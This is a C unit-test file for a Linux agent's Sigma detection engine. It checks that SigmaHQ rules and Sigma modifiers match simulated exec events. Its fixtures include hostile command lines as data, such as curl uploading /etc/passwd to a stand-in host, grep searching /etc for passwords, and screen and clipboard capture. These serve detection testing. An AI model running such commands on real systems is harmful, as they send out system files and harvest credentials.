// SPDX-License-Identifier: GPL-2.0-only
/*
 * Sigma compatibility: the SigmaHQ rule files under tests/policy-sigma
 * (copied unchanged, see its README) load without a single diagnostic and
 * fire on the launch they describe, built the way agent/events.c builds an
 * exec event (Image, CommandLine, Comm, User, Uid, Parent*, Pid, and argv),
 * and not on a near miss. Rules whose log source the agent lacks load with
 * rule->needs. Then the Sigma syntax those files do not exercise: windash,
 * base64 / base64offset, cidr, exists, fieldref, keywords, PCRE rewriting.
 */
#include "test_policy_util.h"

#ifndef ARRAY_SIZE
#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#endif

#define RULE_HEAD(id) \
	"id: " id "\n" \
	"title: A rule\n" \
	"logsource:\n" \
	"  category: process_creation\n"

static const char *sigma_dir(void)
{
	const char *d = getenv("POLICY_SIGMA_DIR");

	return d ? d : "tests/policy-sigma";
}

static struct policy *load_file(const char *name)
{
	struct policy_diags diags = {};
	struct policy *p = NULL;
	char path[512], buf[1024];
	int r;

	snprintf(path, sizeof(path), "%s/%s", sigma_dir(), name);
	r = policy_load(path, &p, &diags);
	for (size_t i = 0; i < diags.count; i++)
		print_error("%s\n", policy_diag_format(&diags.items[i], buf, sizeof(buf)));
	assert_int_equal(diags.count, 0);
	assert_int_equal(r, 0);
	policy_diags_clear(&diags);
	assert_int_equal(policy_rule_count(p), 1);
	return p;
}

/* An exec as agent/events.c match_process() describes it. */
struct exec {
	const char *image, *parent;
	const char *argv[8];
};

static void exec_event(struct policy_event *ev, const struct exec *e, char *cmdline, size_t len)
{
	size_t argc = 0, used = 0;
	const char *comm;

	cmdline[0] = '\0';
	for (; argc < 8 && e->argv[argc]; argc++)
		used += (size_t)snprintf(cmdline + used, len - used, "%s%s", argc ? " " : "",
					 e->argv[argc]);
	comm = strrchr(e->image, '/') ? strrchr(e->image, '/') + 1 : e->image;
	make_event(ev, POLICY_CAT_PROCESS_CREATION, "Image", e->image, "CommandLine", cmdline,
		   "Comm", comm, "User", "alice", "Uid", "1000",
		   "ParentImage", e->parent ? e->parent : "/usr/bin/bash",
		   "ParentCommandLine", "bash", "Pid", "4242", NULL);
	policy_event_set_argv(ev, e->argv, argc);
}

static const struct sigma_case {
	const char *file;
	struct exec exec;
	bool fires;
} cases[] = {
	/* Screen capture, the reason these rules are here. */
	{ "lnx_auditd_screencaputre_xwd.yml",
	  { "/usr/bin/xwd", NULL, { "xwd", "-root", "-out", "/tmp/s.xwd" } }, true },
	{ "lnx_auditd_screencaputre_xwd.yml",
	  { "/usr/bin/xwd", NULL, { "xwd", "-out", "w.xwd" } }, true },
	{ "lnx_auditd_screencaputre_xwd.yml",
	  { "/usr/bin/xwd", NULL, { "xwd", "-root", "-out", "/tmp/s.png" } }, false },
	{ "lnx_auditd_screencaputre_xwd.yml",
	  { "/usr/bin/xwd", NULL, { "xwd", "-root", "-silent", "-out", "s.xwd" } }, false },
	{ "lnx_auditd_screencapture_import.yml",
	  { "/usr/bin/import", NULL, { "import", "-window", "root", "/tmp/s.png" } }, true },
	{ "lnx_auditd_screencapture_import.yml",
	  { "/usr/bin/import", NULL, { "import", "shot.JPG" } }, true },
	{ "lnx_auditd_screencapture_import.yml",
	  { "/usr/bin/import", NULL, { "import", "-window", "root", "/tmp/s.gif" } }, false },
	{ "lnx_auditd_screencapture_import.yml",
	  { "/usr/bin/python3", NULL, { "python3", "import.png" } }, false },
	/* auditd EXECVE: a0..a5 one by one. */
	{ "lnx_auditd_clipboard_image_collection.yml",
	  { "/usr/bin/xclip", NULL, { "xclip", "-selection", "clipboard", "-t", "image/png", "-o" } },
	  true },
	{ "lnx_auditd_clipboard_image_collection.yml",
	  { "/usr/bin/xclip", NULL, { "xclip", "-selection", "clipboard", "-t", "text/plain", "-o" } },
	  false },
	{ "lnx_auditd_chattr_immutable_removal.yml",
	  { "/usr/bin/chattr", NULL, { "chattr", "-i", "/etc/passwd" } }, true },
	{ "lnx_auditd_chattr_immutable_removal.yml",
	  { "/usr/bin/chattr", NULL, { "chattr", "+i", "/etc/passwd" } }, false },
	/* auditd keywords: any argument of the record. */
	{ "lnx_auditd_binary_padding.yml",
	  { "/usr/bin/truncate", NULL, { "truncate", "-s", "+1M", "/usr/bin/ls" } }, true },
	{ "lnx_auditd_binary_padding.yml",
	  { "/usr/bin/dd", NULL, { "dd", "if=/dev/zero", "bs=1" } }, true },
	{ "lnx_auditd_binary_padding.yml",
	  { "/usr/bin/dd", NULL, { "dd", "if=/dev/zero", "of=/tmp/x" } }, false },
	{ "lnx_auditd_find_cred_in_files.yml",
	  { "/usr/bin/grep", NULL, { "grep", "-ri", "password", "/etc" } }, true },
	{ "lnx_auditd_find_cred_in_files.yml",
	  { "/usr/bin/grep", NULL, { "grep", "-ri", "passwd", "/etc" } }, false },
	/* process_creation: Sigma's fields are the agent's. */
	{ "proc_creation_lnx_susp_curl_fileupload.yml",
	  { "/usr/bin/curl", NULL, { "curl", "--data", "@/etc/passwd", "http://x.example" } }, true },
	{ "proc_creation_lnx_susp_curl_fileupload.yml",
	  { "/usr/bin/curl", NULL, { "curl", "-F", "f=@/etc/passwd", "http://x.example" } }, true },
	{ "proc_creation_lnx_susp_curl_fileupload.yml",	/* -f, not -F: the re is cased */
	  { "/usr/bin/curl", NULL, { "curl", "-f", "http://x.example" } }, false },
	{ "proc_creation_lnx_susp_curl_fileupload.yml",
	  { "/usr/bin/curl", NULL, { "curl", "--data", "x", "http://localhost/" } }, false },
	{ "proc_creation_lnx_susp_inod_listing.yml",
	  { "/usr/bin/ls", NULL, { "ls", "-lid", "/" } }, true },
	{ "proc_creation_lnx_susp_inod_listing.yml",
	  { "/usr/bin/ls", NULL, { "ls", "-la", "/" } }, false },
	{ "proc_creation_lnx_rsync_shell_spawn.yml",
	  { "/usr/bin/sh", "/usr/bin/rsync", { "sh", "-c", "id" } }, true },
	{ "proc_creation_lnx_rsync_shell_spawn.yml",
	  { "/usr/bin/sh", "/usr/bin/rsync", { "sh", "-e", "ssh", "x" } }, false },
	{ "proc_creation_lnx_rsync_shell_spawn.yml",
	  { "/usr/bin/sh", "/usr/bin/make", { "sh", "-c", "id" } }, false },
	{ "proc_creation_lnx_clipboard_collection.yml",
	  { "/usr/bin/xclip", NULL, { "xclip", "-sel", "clip", "-o" } }, true },
	{ "proc_creation_lnx_clipboard_collection.yml",
	  { "/usr/bin/xclip", NULL, { "xclip", "-sel", "clip", "-i" } }, false },
};

static void test_sigma_rules_fire(void **state)
{
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct sigma_case *c = &cases[i];
		struct policy *p = load_file(c->file);
		struct policy_event ev;
		char cmdline[512];
		bool got;

		assert_null(policy_rule_at(p, 0)->needs);
		exec_event(&ev, &c->exec, cmdline, sizeof(cmdline));
		got = policy_match(p, &ev) != NULL;
		if (got != c->fires)
			fail_msg("%s on '%s': expected %s", c->file, cmdline,
				 c->fires ? "a match" : "no match");
		policy_free(p);
	}
}

/* Without argv (an old recording) an auditd rule has nothing to read. */
static void test_auditd_needs_argv(void **state)
{
	struct policy *p = load_file("lnx_auditd_screencaputre_xwd.yml");
	struct policy_event ev;

	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "Image", "/usr/bin/xwd",
		   "CommandLine", "xwd -out w.xwd", NULL);
	check_best(p, &ev, NULL);
	policy_free(p);
}

static void test_dormant_sources(void **state)
{
	static const struct { const char *file, *needs; } dormant[] = {
		{ "lnx_auditd_create_account.yml", "auditd SYSCALL records" },
		{ "file_event_lnx_doas_conf_creation.yml", "category 'file_event'" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(dormant); i++) {
		struct policy *p = load_file(dormant[i].file);
		struct policy_event ev;
		static const char *const argv[] = { "useradd", "-m", "eve" };

		assert_string_equal(policy_rule_at(p, 0)->needs, dormant[i].needs);
		make_event(&ev, POLICY_CAT_PROCESS_CREATION, "Image", "/usr/sbin/useradd",
			   "CommandLine", "useradd -m eve", NULL);
		policy_event_set_argv(&ev, argv, 3);
		check_best(p, &ev, NULL);
		make_event(&ev, POLICY_CAT_FILE_ACCESS, "TargetFilename", "/etc/doas.conf", NULL);
		check_best(p, &ev, NULL);
		policy_free(p);
	}
}

/* The whole directory as one policy: every file, ids unique, best match right. */
static void test_directory(void **state)
{
	struct policy_diags diags = {};
	struct policy *p = NULL;
	struct policy_event ev;
	const struct exec xwd = { "/usr/bin/xwd", NULL, { "xwd", "-root", "-out", "a.xwd" } };
	char cmdline[256];
	size_t dormant = 0;

	assert_int_equal(policy_load(sigma_dir(), &p, &diags), 0);
	assert_int_equal(diags.count, 0);
	assert_int_equal(policy_rule_count(p), 12);
	for (size_t i = 0; i < policy_rule_count(p); i++)
		dormant += policy_rule_at(p, i)->needs != NULL;
	assert_int_equal(dormant, 2);
	exec_event(&ev, &xwd, cmdline, sizeof(cmdline));
	check_best(p, &ev, "e2f17c5d-b02a-442b-9052-6eb89c9fec9c");
	policy_free(p);
}

/* ------------------------------------------------ syntax beyond the files */

static void expect_match(const struct policy *p, const char *field, const char *value, bool want)
{
	struct policy_event ev;

	make_event(&ev, POLICY_CAT_PROCESS_CREATION, field, value, NULL);
	if ((policy_match(p, &ev) != NULL) != want)
		fail_msg("%s '%s': expected %s", field, value, want ? "a match" : "no match");
}

static void test_windash(void **state)
{
	struct policy *p = load_ok(
		RULE_HEAD("t.windash")
		"detection:\n"
		"  selection:\n"
		"    CommandLine|windash|contains|all: ['-enc ', ' -nop']\n"
		"  condition: selection\n");

	expect_match(p, "CommandLine", "powershell -nop -enc AAA", true);
	expect_match(p, "CommandLine", "powershell /nop /enc AAA", true);
	expect_match(p, "CommandLine", "powershell \xe2\x80\x93nop /enc AAA", true);
	expect_match(p, "CommandLine", "powershell -nop", false);	/* all: both needed */
	expect_match(p, "CommandLine", "powershell xnop xenc AAA", false);
	policy_free(p);
}

static void test_base64(void **state)
{
	struct policy *p = load_ok(
		RULE_HEAD("t.b64")
		"detection:\n"
		"  off:\n"
		"    CommandLine|base64offset|contains: 'x11grab'\n"
		"  plain:\n"
		"    CommandLine|base64: 'ffmpeg'\n"
		"  wide:\n"
		"    Comm|wide|base64offset|contains: 'ab'\n"
		"  condition: 1 of them\n");

	/* "x11grab" at each alignment inside base64 of a longer text. */
	expect_match(p, "CommandLine", "echo ZmZtcGVnIC1mIHgxMWdyYWIgLWkgOjA= | base64 -d", true);
	expect_match(p, "CommandLine", "ZmZtcGVnIC1mICB4MTFncmFi", true);   /* "ffmpeg -f  x11grab" */
	expect_match(p, "CommandLine", "ZmZtcGVnIC1mICAgeDExZ3JhYg==", true); /* three spaces */
	expect_match(p, "CommandLine", "ZmZtcGVn", true);		/* base64("ffmpeg") */
	expect_match(p, "CommandLine", "ZmZtcGVnIC1mIHYxMWdyYWI=", false);	/* v11grab */
	expect_match(p, "Comm", "YQBiAA==", true);			/* UTF-16LE "ab" */
	expect_match(p, "Comm", "YWI=", false);
	policy_free(p);
}

static void test_cidr_exists_fieldref(void **state)
{
	struct policy *p = load_ok(
		RULE_HEAD("t.misc")
		"detection:\n"
		"  net:\n"
		"    DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8', '192.168.1.7']\n"
		"  has:\n"
		"    Parent|exists: true\n"
		"  lacks:\n"
		"    Tty|exists: false\n"
		"  same:\n"
		"    User|fieldref: Owner\n"
		"  condition: net or (has and lacks) or same\n");
	struct policy_event ev;

	expect_match(p, "DestinationIp", "10.200.3.4", true);
	expect_match(p, "DestinationIp", "11.0.0.1", false);
	expect_match(p, "DestinationIp", "fd12::1", true);
	expect_match(p, "DestinationIp", "fe80::1", false);
	expect_match(p, "DestinationIp", "192.168.1.7", true);
	expect_match(p, "DestinationIp", "192.168.1.8", false);
	expect_match(p, "DestinationIp", "not an address", false);
	expect_match(p, "Parent", "", true);		/* present, even empty */
	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "Parent", "x", "Tty", "pts/1", NULL);
	check_best(p, &ev, NULL);
	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "User", "Bob", "Owner", "bob", NULL);
	check_best(p, &ev, "t.misc");
	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "User", "bob", "Owner", "eve", NULL);
	check_best(p, &ev, NULL);
	expect_match(p, "User", "bob", false);		/* no Owner to compare with */
	policy_free(p);
}

static void test_keywords_and_pcre(void **state)
{
	struct policy *p = load_ok(
		RULE_HEAD("t.kw")
		"detection:\n"
		"  keywords:\n"
		"    - 'x11*grab'\n"
		"    - kmsgrab\n"
		"  digits:\n"
		"    CommandLine|re: '(?i)-VIDEO_SIZE \\d+x\\d+\\b'\n"
		"  lazy:\n"
		"    CommandLine|re: '^obs.*?--start(?:recording|replaybuffer)\\s'\n"
		"  cls:\n"
		"    Image|re: '/[\\w.\\-]+-recorder$'\n"
		"  condition: 1 of them\n");

	expect_match(p, "CommandLine", "ffmpeg -f X11GRAB -i :0", true);	/* any field */
	expect_match(p, "Image", "/opt/kmsgrab-helper", true);
	expect_match(p, "CommandLine", "ffmpeg -f x11 -i :0", false);
	expect_match(p, "CommandLine", "ffmpeg -video_size 1920x1080 -i x", true);
	expect_match(p, "CommandLine", "ffmpeg -video_size 1920xhd -i x", false);
	expect_match(p, "CommandLine", "obs --startrecording --minimize", true);
	expect_match(p, "CommandLine", "obs --startstreaming ", false);
	expect_match(p, "Image", "/usr/bin/wf-recorder", true);
	expect_match(p, "Image", "/usr/bin/gpu_screen.x-recorder", true);
	expect_match(p, "Image", "/usr/bin/a b-recorder", false);
	policy_free(p);
	expect_errors(
		RULE_HEAD("t.look")
		"detection:\n"
		"  s:\n"
		"    CommandLine|re: 'a(?=b)'\n"
		"  t:\n"
		"    CommandLine|re: '\\x41'\n"
		"  condition: s or t\n",
		"7:21: bad regular expression 'a(?=b)': '(?=' (lookaround, named group or inline "
		"flag) has no POSIX equivalent",
		"9:21: bad regular expression '\\x41': '\\x' has no POSIX equivalent");
}

/* Inside [...] POSIX reads a backslash literally: the rewrite moves ']' and '-'. */
static void test_pcre_brackets(void **state)
{
	struct policy *p = load_ok(
		RULE_HEAD("t.br")
		"detection:\n"
		"  dash:\n"
		"    CommandLine|re: '^x[a\\-c]y$'\n"
		"  bracket:\n"
		"    Comm|re: '^[\\]q]+$'\n"
		"  notspace:\n"
		"    User|re: '^[^-\\s]+$'\n"
		"  backslash:\n"
		"    Image|re: '^[\\\\]$'\n"
		"  condition: 1 of them\n");

	expect_match(p, "CommandLine", "x-y", true);
	expect_match(p, "CommandLine", "xcy", true);
	expect_match(p, "CommandLine", "xby", false);	/* \- is a dash, not a range */
	expect_match(p, "Comm", "]q]", true);
	expect_match(p, "Comm", "\\", false);
	expect_match(p, "User", "alice", true);
	expect_match(p, "User", "al-ice", false);
	expect_match(p, "User", "al ice", false);
	expect_match(p, "Image", "\\", true);
	expect_match(p, "Image", "x", false);
	policy_free(p);
}

/*
 * What regcomp() would make of a regex is bounded before it runs: stacked
 * quantifiers once took 23 GB ('t+++...'), nested or long optional
 * repetitions grow as fast; so does a policy of many big ones.
 */
static void test_regex_cost(void **state)
{
	char yaml[4096];
	size_t used;

	expect_errors(
		RULE_HEAD("t.cost")
		"detection:\n"
		"  s:\n"
		"    CommandLine|re:\n"
		"      - 'shutt++++++++++++++++++++++++++++++++++++++++++er'\n"
		"      - 'a{2}{3}'\n"
		"      - '((a{0,17}){0,17}){0,17}'\n"
		"      - '.{0,256}'\n"
		"      - 'a{5000}'\n"
		"      - '((a{0,16}){0,16}){0,16}|.{0,255}|.{1000,}|a{4000}'\n"
		"  condition: s\n",
		"8:9: bad regular expression 'shutt++++++++++++++++++++++++++++++++++++++++++er': a "
		"quantifier cannot follow another (PCRE's possessive 'a++' has no POSIX equivalent)",
		"9:9: bad regular expression 'a{2}{3}': a quantifier cannot follow another (PCRE's "
		"possessive 'a++' has no POSIX equivalent)",
		"10:9: bad regular expression '((a{0,17}){0,17}){0,17}': its repetitions expand to "
		"more than 4096 pieces",
		"11:9: bad regular expression '.{0,256}': more than 255 optional repetitions ({n,m} "
		"with m - n > 255)",
		"12:9: bad regular expression 'a{5000}': its repetitions expand to more than 4096 "
		"pieces",
		"13:9: bad regular expression '((a{0,16}){0,16}){0,16}|.{0,255}|.{1000,}|a{4000}': its "
		"repetitions expand to more than 4096 pieces");
	/* Sixteen of 4000 pieces fit in a policy, the seventeenth does not. */
	used = (size_t)snprintf(yaml, sizeof(yaml), RULE_HEAD("t.many")
				"detection:\n  s:\n    CommandLine|re:\n");
	for (int i = 0; i < 17; i++)
		used += (size_t)snprintf(yaml + used, sizeof(yaml) - used,
					 "      - 'x%d{4000}'\n", i);
	snprintf(yaml + used, sizeof(yaml) - used, "  condition: s\n");
	expect_errors(yaml, "24:9: the policy's regular expressions expand to more than 65536 "
		      "pieces (this one to 4002)");
}

static void test_modifier_rules(void **state)
{
	expect_errors(
		RULE_HEAD("t.mods")
		"detection:\n"
		"  s:\n"
		"    A|base64offset: x\n"
		"    B|utf16le|contains: x\n"
		"    C|windash|re: x\n"
		"    D|cidr: 10.0.0.0/33\n"
		"    E|exists: maybe\n"
		"    F|base64|base64offset|contains: x\n"
		"  condition: s\n",
		"7:5: modifier 'base64offset' needs 'contains' (the value sits inside a longer "
		"base64 text)",
		"8:5: modifiers 'utf16', 'utf16le', 'utf16be' and 'wide' only apply before "
		"'base64' or 'base64offset'",
		"9:5: modifiers 'windash', 'base64' and 'base64offset' only apply to strings "
		"compared as such (plain, contains, startswith, endswith)",
		"10:13: expected an address range like '10.0.0.0/8' or 'fd00::/8' for 'cidr', "
		"got '10.0.0.0/33'",
		"11:15: expected true or false for 'E|exists', got 'maybe'",
		"12:5: modifiers 'base64' and 'base64offset' cannot be combined");
}

/* Log sources: ours fire, others load and say what they need, typos fail. */
static void test_logsources(void **state)
{
	struct policy *p = load_ok(
		"id: t.win\ntitle: t\n"
		"logsource: {category: process_creation, product: windows}\n"
		"detection: {s: {Image|endswith: '\\\\cmd.exe'}, condition: s}\n"
		"---\n"
		"id: t.sshd\ntitle: t\n"
		"logsource: {product: linux, service: sshd}\n"
		"detection: {s: [Failed password], condition: s}\n"
		"---\n"
		"id: t.expand\ntitle: t\n"
		"logsource: {category: process_creation, product: linux}\n"
		"detection: {s: {Image|expand: '%bin%'}, condition: s}\n"
		"---\n"
		"id: t.audit\ntitle: t\n"
		"logsource: {product: linux, service: auditd}\n"
		"detection: {s: {type: EXECVE, argc|gte: 3}, condition: s}\n");
	static const char *const argv[] = { "a", "b", "c" };
	struct policy_event ev;

	assert_string_equal(policy_find_rule(p, "t.win")->needs, "product 'windows'");
	assert_string_equal(policy_find_rule(p, "t.sshd")->needs, "service 'sshd'");
	assert_non_null(strstr(policy_find_rule(p, "t.expand")->needs, "'expand'"));
	assert_null(policy_find_rule(p, "t.audit")->needs);
	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "Image", "C:\\cmd.exe",
		   "CommandLine", "Failed password", NULL);
	policy_event_set_argv(&ev, argv, 2);
	check_best(p, &ev, NULL);
	policy_event_set_argv(&ev, argv, 3);
	check_best(p, &ev, "t.audit");
	policy_free(p);
	/* A rule that never fires asks the kernel to wake the agent for nothing. */
	p = load_ok(
		"id: t.win\ntitle: t\n"
		"logsource: {category: process_creation, product: windows}\n"
		"detection: {s: {Image|endswith: '\\cmd.exe'}, condition: s}\n");
	{
		char **names = NULL, **batched = NULL;

		assert_int_equal(policy_exec_names(p, &names, &batched), 0);
		assert_null(names[0]);
		assert_null(batched[0]);
		policy_strv_free(names);
		policy_strv_free(batched);
	}
	policy_free(p);
	expect_errors(
		"id: t.typo\ntitle: t\nlogsource: {category: process_craetion}\n"
		"detection: {s: {Image: a}, condition: s}\n",
		"3:23: unknown category 'process_craetion' (did you mean 'process_creation'?); "
		"expected process_creation, file_access or screen_capture");
}

/* argv travels in the JSON form, so `sphinx-policy test` sees what the agent saw. */
static void test_argv_json(void **state)
{
	static const char *const argv[] = { "xwd", "-out", "w.xwd" };
	struct policy_event ev, back;
	const char *buf[4];
	char err[128];
	json_t *obj;

	make_event(&ev, POLICY_CAT_PROCESS_CREATION, "Image", "/usr/bin/xwd", NULL);
	policy_event_set_argv(&ev, argv, 3);
	obj = policy_event_to_json(&ev);
	assert_non_null(obj);
	assert_int_equal(policy_event_from_json(obj, &back, err, sizeof(err)), 0);
	assert_int_equal(policy_event_argv_from_json(obj, &back, buf, 4, err, sizeof(err)), 0);
	assert_int_equal(back.argc, 3);
	assert_string_equal(back.argv[2], "w.xwd");
	assert_int_equal(policy_event_argv_from_json(obj, &back, buf, 2, err, sizeof(err)),
			 -EINVAL);
	assert_string_equal(err, "'argv' has more than 2 elements");
	json_decref(obj);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sigma_rules_fire),
		cmocka_unit_test(test_auditd_needs_argv),
		cmocka_unit_test(test_dormant_sources),
		cmocka_unit_test(test_directory),
		cmocka_unit_test(test_windash),
		cmocka_unit_test(test_base64),
		cmocka_unit_test(test_cidr_exists_fieldref),
		cmocka_unit_test(test_keywords_and_pcre),
		cmocka_unit_test(test_pcre_brackets),
		cmocka_unit_test(test_regex_cost),
		cmocka_unit_test(test_modifier_rules),
		cmocka_unit_test(test_logsources),
		cmocka_unit_test(test_argv_json),
	};

	return cmocka_run_group_tests_name("policy_sigma", tests, scratch_setup, scratch_teardown);
}
